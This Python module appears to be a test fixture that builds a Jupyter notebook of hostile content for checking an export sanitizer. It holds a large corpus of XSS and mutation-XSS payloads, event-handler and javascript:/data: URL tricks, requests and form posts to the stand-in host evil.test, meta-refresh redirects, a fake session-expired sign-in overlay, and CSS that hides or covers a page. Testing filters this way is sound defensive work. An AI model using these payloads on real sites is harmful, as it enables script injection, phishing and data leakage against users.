"""What hostile notebooks hold: scripts, requests, navigation, forms, and markup that hides or covers the rest of a
page.

Written after the filter was. Each would set `window.hit`, open a dialog, ask `evil.test` for something, lead away, or
keep what follows it from being seen, in a page that let it.
"""

from __future__ import annotations

import base64
from urllib.parse import quote

from export.samples import build, say
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from helpers.markup import dialect as markup

_HIT = "window.hit=1;alert(1)"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_HIT}"><script>{_HIT}</script></svg>'
_ASKING = (
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{_HIT}" '
    'width="30" height="30">'
    f"<style>@import url(https://evil.test/s.css); @font-face {{ font-family: a; src: url(https://evil.test/a.woff) }} "
    f'text {{ font-family: a }}</style><script href="https://evil.test/s.js"/><script>{_HIT}</script>'
    '<image xlink:href="https://evil.test/i.png" width="9" height="9"/><use href="https://evil.test/u.svg#a"/>'
    '<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="https://evil.test/f.png"/>'
    f'</foreignObject><a href="javascript:{_HIT}"><text y="20">x</text></a></svg>'
)
_DATA = base64.b64encode(f"<script>{_HIT}</script>".encode()).decode()

# Markup: each goes through Markdown, an output, and a ledger's text.
HTML = [
    # scripts
    f"<script>{_HIT}</script>",
    "<script src=https://evil.test/s.js></script>",
    f"<SCRIPT type=module>{_HIT}</SCRIPT>",
    f"<scr<script></script>ipt>{_HIT}</script>",
    f"<script>/*<!--*/{_HIT}//--></script>",
    f"<script\x0c>{_HIT}</script>",
    f"<script/x>{_HIT}</script >",
    f"<noscript><p title='</noscript><img src=x onerror={_HIT}>'></noscript>",
    f"<template><script>{_HIT}</script></template>",
    f"<div><template shadowrootmode=open><script>{_HIT}</script></template></div>",
    f"<textarea><script>{_HIT}</script>",
    f"<title><img src=x onerror={_HIT}></title>",
    f"<style><img src=x onerror={_HIT}></style>",
    f"<xmp><script>{_HIT}</script></xmp>",
    f"<iframe srcdoc='<script>parent.{_HIT}</script>'></iframe>",
    f"<object data='data:text/html;base64,{_DATA}'></object>",
    f"<embed src='data:text/html;base64,{_DATA}'>",
    f"<object type=text/html data='javascript:{_HIT}'></object>",
    f"<!--><script>{_HIT}</script>-->",
    f"<!--!><script>{_HIT}</script>",
    f"<![CDATA[<script>{_HIT}</script>]]>",
    f"<?xml version='1.0'?><script>{_HIT}</script>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={_HIT}>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={_HIT}>'>",
    f"<math><mi><mglyph><svg><mtext><textarea><path id='</textarea><img onerror={_HIT} src=1>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_HIT}>",
    f"<svg><foreignObject><body onload={_HIT}><iframe src=javascript:{_HIT}>",
    f"<math href='javascript:{_HIT}'>click</math>",
    f"<math><maction actiontype='statusline' xlink:href='javascript:{_HIT}'>x</maction></math>",
    f"<math><annotation-xml encoding='text/html'><script>{_HIT}</script></annotation-xml></math>",
    f"<svg><script>{_HIT}</script></svg>",
    f"<svg onload={_HIT}></svg>",
    f"<svg><animate onbegin={_HIT} attributeName=x dur=1s></svg>",
    f"<svg><a><set attributeName=href to='javascript:{_HIT}'/><text y=20>x</text></a></svg>",
    # A drawing as the source of a picture: it is shown, and as a picture it runs no script and asks for nothing.
    f'<img src="data:image/svg+xml,{quote(_ASKING)}">',
    f"<img src='data:image/svg+xml;charset=utf-8,{_ASKING}'>",
    f"<img src='data:image/svg+xml;base64,{base64.b64encode(_ASKING.encode()).decode()}'>",
    f"<svg><use href='data:image/svg+xml;base64,{base64.b64encode(_SVG.encode()).decode()}#x'></use></svg>",
    f"<svg><a xlink:href='javascript:{_HIT}'><text y=20>x</text></a></svg>",
    f"<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>{_HIT}</handler></svg>",
    # handlers
    f"<img src=x onerror={_HIT}>",
    f"<img src=x:x onerror='{_HIT}'>",
    f"<image src=x onerror={_HIT}>",
    f"<body onload={_HIT}>",
    f"<details open ontoggle={_HIT}><summary>s</summary></details>",
    f"<video src=x onerror={_HIT}></video>",
    f"<audio src=x onerror={_HIT}></audio>",
    f"<input autofocus onfocus={_HIT}>",
    f"<select autofocus onfocus={_HIT}></select>",
    f"<marquee onstart={_HIT}>m</marquee>",
    f"<div onanimationstart={_HIT} style='animation:x 1s'>a</div>",
    f"<div style='transition:color 1s' ontransitionend={_HIT}>t</div>",
    f"<div contenteditable autofocus onfocus={_HIT}>c</div>",
    f"<p onpointerrawupdate={_HIT} onmouseover={_HIT}>hover</p>",
    f"<button popovertarget=x>b</button><div popover id=x onbeforetoggle={_HIT}>p</div>",
    f'<a href="#" onclick="{_HIT}">a</a>',
    f"<b/onclick={_HIT}//x>b</b>",
    f"<p title='a>b' onclick={_HIT}>p</p>",
    f"<p id='x' onscrollend={_HIT} tabindex=5>p</p>",
    # addresses
    f"<a href='javascript:{_HIT}'>a</a>",
    f"<a href='JaVa\tScRiPt:{_HIT}'>a</a>",
    f"<a href='&#106;avascript&colon;{_HIT}'>a</a>",
    f"<a href=' \x01javascript:{_HIT}'>a</a>",
    f"<a href='data:text/html;base64,{_DATA}'>a</a>",
    f"<a href='vbscript:{_HIT}'>a</a>",
    "<a href='file:///etc/passwd'>a</a>",
    "<a href='//evil.test/x'>a</a>",
    "<a href='https://example.org/' ping='https://evil.test/ping' target=_top>a</a>",
    "<map name=m><area href='https://evil.test/' shape=default></map><img usemap=#m src=x>",
    # requests
    "<img src=https://evil.test/a.png>",
    "<img srcset='https://evil.test/a.png 1x'>",
    "<picture><source srcset=https://evil.test/p.png><img src=https://evil.test/q.png></picture>",
    "<img src='\thttps://evil.test/tab.png'>",
    "<img src=//evil.test/b.png loading=eager>",
    "<input type=image src=https://evil.test/i.png>",
    "<video poster=https://evil.test/v.png autoplay><source src=https://evil.test/v.mp4></video>",
    "<audio autoplay src=https://evil.test/a.mp3></audio>",
    "<track src=https://evil.test/t.vtt>",
    "<link rel=stylesheet href=https://evil.test/s.css>",
    "<link rel=preconnect href=https://evil.test>",
    "<link rel=prefetch href=https://evil.test/p><link rel=dns-prefetch href=//evil.test>",
    "<link rel=icon href=https://evil.test/i.ico><link rel=manifest href=https://evil.test/m>",
    "<style>@import 'https://evil.test/i.css'; p { background: url(https://evil.test/u.png) }</style><p>p</p>",
    "<style>@font-face { font-family: F; src: url(https://evil.test/f) } p { font-family: F }</style><p>p</p>",
    "<p style='background:url(https://evil.test/c.png)'>p</p>",
    "<p style='background:\\75rl(https://evil.test/esc.png)'>p</p>",
    "<p style=\"background-image:image-set('https://evil.test/is.png' 1x)\">p</p>",
    "<p style='list-style:url(https://evil.test/l.png);display:list-item'>p</p>",
    "<p style='cursor:url(https://evil.test/cur.png),auto'>p</p>",
    "<p style='content:url(https://evil.test/con.png)'>p</p>",
    "<p style='background:var(--x,url(https://evil.test/var.png))'>p</p>",
    "<table background=https://evil.test/tb.png><tr><td background=https://evil.test/td.png>t</table>",
    "<body background=https://evil.test/body.png>",
    "<svg><image href=https://evil.test/si.png width=9 height=9 /></svg>",
    "<svg><use href='https://evil.test/u.svg#a'></use></svg>",
    "<svg><rect width=9 height=9 fill='url(https://evil.test/f.svg#a)'/></svg>",
    "<svg><filter id=f><feImage href=https://evil.test/fe.png></filter><rect filter=url(#f) width=9 height=9 /></svg>",
    "<svg><text style=\"font-family:'x';fill:url(https://evil.test/t.svg#b)\">t</text></svg>",
    "<iframe src=https://evil.test/f></iframe>",
    "<frameset><frame src=https://evil.test/f></frameset>",
    "<object data=https://evil.test/o></object><embed src=https://evil.test/e>",
    "<applet code=x archive=https://evil.test/a.jar></applet>",
    "<portal src=https://evil.test/p></portal><fencedframe src=https://evil.test/ff></fencedframe>",
    # navigation
    '<meta http-equiv=refresh content="0;url=https://evil.test/">',
    '<me<h2></h2>ta http-equiv="refresh" content="0;url=https://evil.test/">',
    '<svg><style><meta http-equiv=refresh content="0;url=https://evil.test/"></style></svg>',
    "<base href=https://evil.test/>",
    "<base target=_blank>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<meta name=referrer content=unsafe-url><meta charset=utf-7>",
    "<form action=https://evil.test/ method=post><input name=a value=b><button>send</button></form>",
    "<button form=f formaction=https://evil.test/>go</button><form id=f></form>",
    "<isindex action=https://evil.test/>",
    "<dialog open style='position:fixed;inset:0'>Your session has ended. "
    "<a href='https://evil.test'>Sign in</a></dialog>",
    # hides or covers the rest
    "<div style='display:none'>",
    "<div hidden>",
    "<div style='visibility:hidden'>",
    "<div style='opacity:0'>",
    "<div style='position:fixed;inset:0;background:#fff;z-index:9999'>cover</div>",
    "<div style='position:absolute;top:0;left:0;width:9999px;height:9999px;background:red'>cover</div>",
    "<div style='margin-top:-4000px;background:#fff;height:1900px'>cover</div>",
    "<div style='margin-bottom:-1500px;background:#fff;padding:500px 0'>cover</div>",
    "<div style='transform:scale(90);background:red'>cover</div>",
    "<div style='box-shadow:0 0 0 9999px red'>shadow</div>",
    "<div style='outline:9999px solid red'>outline</div>",
    "<div style='float:left;width:100%;height:1px'>",
    "<div style='columns:9;filter:blur(9px);clip-path:circle(0)'>",
    "<div style='line-height:0;font-size:900px'>huge</div>",
    "<p style='text-indent:-9999px;letter-spacing:-99px'>out</p>",
    "<p style='width:99999px;white-space:pre'>wide</p>",
    "<style>main, p, h2 { display: none !important } * { color: transparent }</style>",
    "<style>:root { --ink: #fff; --paper: #fff }</style>",
    "<style>",
    "<!--",
    "<textarea>",
    "<plaintext>",
    "<xmp>",
    "<title>",
    "<noembed>",
    "<noframes>",
    "<select><option>",
    "<script>",
    "<svg><desc>",
    "<math><mtext>",
    "<svg style='position:fixed;width:100vw;height:100vh'><rect width='100%' height='100%'/></svg>",
    "<table><tr><td><table>" * 30,
    "<div>" * 5000,
    "<b><i><u>" * 300 + "x",
    "</p></div></main></body></html>",
    "</td></tr></table></li></ul></figure></details>",
    "<details><summary>closed</summary>",
    "<p id=text>t</p><p id=top>t</p><p id=f-7>stolen</p><a name=contents>c</a>",
    "<p class='skip briefing page masthead contents failed'>class</p>",
    "<p dir=rtl lang=x>\u202ereversed\u2066",
    "<a " * 4000,
    "<h1>Another title</h1><h6></h6><h2 id=data>Data</h2>",
    "<ul><li><p><ol><li>" * 40,
]

# What only Markdown can say.
MARKDOWN = [
    f"[a](javascript:{_HIT})",
    f"[a](<javascript:{_HIT}>)",
    f"[a](JAVASCRIPT&colon;{_HIT})",
    f"[a](data:text/html;base64,{_DATA})",
    f"<javascript:{_HIT}>",
    f"[a]: javascript:{_HIT}\n\n[a]",
    "![a](https://evil.test/md.png)",
    "![a](//evil.test/md.png)",
    "![a][r]\n\n[r]: https://evil.test/ref.png",
    "![a](file:///etc/passwd) ![a](/etc/passwd) ![a](../../../etc/passwd)",
    f"![a](data:text/html;base64,{_DATA})",
    f"![a](data:image/svg+xml;base64,{base64.b64encode(_SVG.encode()).decode()})",
    f'[a](#x "&quot; onmouseover={_HIT}")',
    f'[a]{{#x .y onclick={_HIT}}} [b]{{#"><script>{_HIT}</script>}}',
    f"[^1]\n\n[^1]: <script>{_HIT}</script>",
    f"$\\href{{javascript:{_HIT}}}{{x}}$ $<img src=x onerror={_HIT}>$",
    f"```html\n<script>{_HIT}</script>\n```",
    f"| <script>{_HIT}</script> | b |\n|---|---|\n| <img src=x onerror={_HIT}> | `</td><script>` |",
    f"Table: <script>{_HIT}</script> {{#f-7}}\n\n| a |\n|---|\n| b |",
    f"# <img src=x onerror={_HIT}> {{#top}}",
]

_INSIDE = '<foreignObject width="9" height="9">{}</foreignObject>'
_H = 'xmlns="http://www.w3.org/1999/xhtml"'
_NESTED = f"data:image/svg+xml;base64,{base64.b64encode(_ASKING.encode()).decode()}"
# Of drawings that are shown as pictures: attributes of the root, and what stands in it behind a square.
_DRAWN = [
    (f'onload="{_HIT}"', f"<script>{_HIT}</script>"),
    ("", f'<script href="https://evil.test/s.js"/><script xlink:href="data:text/javascript,{_HIT}"/>'),
    ("", f'<image href="https://evil.test/i.png" width="9" height="9" onerror="{_HIT}"/>'),
    ("", '<image xlink:href="//evil.test/i.png" width="9" height="9"/>'),
    ("", '<use xlink:href="https://evil.test/u.svg#a"/>'),
    ("", "<style>@import url(https://evil.test/s.css); rect { fill: url(https://evil.test/f.svg#a) }</style>"),
    ("", "<style>@font-face { font-family: f; src: url(//evil.test/f) } text { font-family: f }</style><text>f</text>"),
    ("", _INSIDE.format(f'<iframe {_H} src="https://evil.test/"/>')),
    ("", _INSIDE.format(f'<img {_H} src="x" onerror="{_HIT}"/>')),
    ("", _INSIDE.format(f'<form {_H} action="//evil.test/"><input autofocus="" onfocus="{_HIT}"/></form>')),
    ("", _INSIDE.format(f'<meta {_H} http-equiv="refresh" content="0;url=https://evil.test/"/>')),
    ("", _INSIDE.format(f'<video {_H} autoplay="" src="https://evil.test/v"/>')),
    ("", f'<animate attributeName="x" dur="1s" onbegin="{_HIT}"/><set attributeName="href" to="javascript:{_HIT}"/>'),
    ("", f'<a href="javascript:{_HIT}" target="_top"><rect width="60" height="20"/></a>'),
    ("", '<filter id="f"><feImage href="//evil.test/fe.png"/></filter><rect filter="url(#f)" width="9" height="9"/>'),
    ("", '<rect fill="url(https://evil.test/p.svg#a)" width="9" height="9"/>'),
    ("", f'<image href="{_NESTED}" width="9" height="9"/>'),
    (f'onclick="{_HIT}" onfocus="{_HIT}" tabindex="0"', f'<text y="19" onmouseover="{_HIT}">m</text>'),
    ('style="position:fixed;inset:0;width:100vw;height:100vh;z-index:9"', '<rect width="9999" height="9999"/>'),
]
DRAWINGS = [
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="20" '
    f'{root}><rect width="9" height="9"/>{inside}</svg>'
    for root, inside in _DRAWN
]


def notebook() -> NotebookNode:
    """Every payload through every channel, with a mark behind each that a reader must be able to see."""
    cells: list[NotebookNode] = [say("# Payloads"), say("- [7,000]{#f-7}: the evidence", "evidence")]

    def add(*made: NotebookNode) -> None:
        for one in made:
            cells.append(one)
            cells.append(new_markdown_cell(f"mark{len(cells):04}seen [7,000](#f-7)"))

    for text in HTML:
        add(new_markdown_cell(text))
        add(new_code_cell("", outputs=[new_output("display_data", {"text/html": text, "text/plain": "x"})]))
        add(say(f"{markup.escape(text[:2000])}."))
    for text in MARKDOWN:
        add(new_markdown_cell(text))
        add(new_code_cell("", outputs=[new_output("display_data", {"text/markdown": text})]))
    for drawing in DRAWINGS:
        held = base64.b64encode(drawing.encode()).decode()
        add(
            new_markdown_cell(f"![d](data:image/svg+xml;base64,{held})"),
            new_markdown_cell("![d](attachment:d.svg)", attachments={"d.svg": {"image/svg+xml": held}}),
            new_code_cell("", outputs=[new_output("display_data", {"image/svg+xml": drawing})], metadata={"alt": "d"}),
        )
    evil = f'"><script>{_HIT}</script>'
    about = {"id": evil, "title": evil, "subtitle": evil, "source": evil, "alt": evil, "narrow": _SVG}
    forged = {
        "image/svg+xml": _SVG,
        "text/html": f"<figure id='f-7' class='skip page'><p id='top' onclick={_HIT}>x{_SVG}",
    }
    add(
        new_raw_cell(evil),
        new_code_cell("", outputs=[new_output("stream", name=evil, text=f"{evil}\x1b]8;;javascript:{_HIT}\x07x")]),
        new_code_cell("", outputs=[new_output("error", ename=evil, evalue=evil, traceback=[evil])]),
        new_code_cell("", outputs=[new_output("display_data", {"text/plain": evil})]),
        new_code_cell("", outputs=[new_output("display_data", {evil: evil})]),
        new_code_cell("", outputs=[
            new_output("display_data", {"image/svg+xml": _SVG, "text/plain": evil}),
        ], metadata={"alt": evil}),
        new_code_cell("", outputs=[new_output("display_data", {"image/png": evil})]),
        new_code_cell("", outputs=[new_output("display_data", {"text/latex": f"$\\text{{{evil}}}$"})]),
        new_code_cell("", outputs=[new_output("display_data", forged, metadata={"image/svg+xml": about})]),
        new_code_cell("", outputs=[
            new_output("display_data", {"text/markdown": evil}, metadata={"text/markdown": {"role": evil}}),
        ]),
    )  # fmt: skip
    return build(*cells, title=evil, description=evil)
